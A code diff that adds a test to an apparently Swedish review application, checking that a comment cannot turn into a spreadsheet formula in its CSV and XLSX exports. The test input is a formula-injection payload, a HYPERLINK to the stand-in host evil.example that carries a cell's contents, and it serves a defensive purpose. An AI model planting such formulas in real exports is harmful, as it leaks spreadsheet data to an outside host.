@@ -104,3 +104,21 @@ def test_the_review_exports_as_csv_and_xlsx(
     assert xrow[-1] == "Sigtuna"
     review = build_review(year)
     assert len(as_rows) == 1 + len(review.rows) + len(review.comments)
+
+
+def test_a_comment_cannot_become_a_formula_in_the_exports(
+    year: Year, analyst: Any, login: Callable[[Any], Client]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?d="&E3;"Klicka")'
+    rep = make_user("rep-0125", Role.REPRESENTATIVE, "0125")
+    r = login(rep).post(PAGE.format("0125"), {"svar-1-bou": "Ja", "kommentar-1": formula})
+    assert r.status_code == 302
+    c = login(analyst)
+    text = c.get("/granskning/2015/export.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    x = c.get("/granskning/2015/export.xlsx")
+    sheet = pl.read_excel(io.BytesIO(x.content), sheet_name="Granskning", infer_schema_length=0)
+    assert formula in [v for row in sheet.rows() for v in row]  # a text cell, not a formula
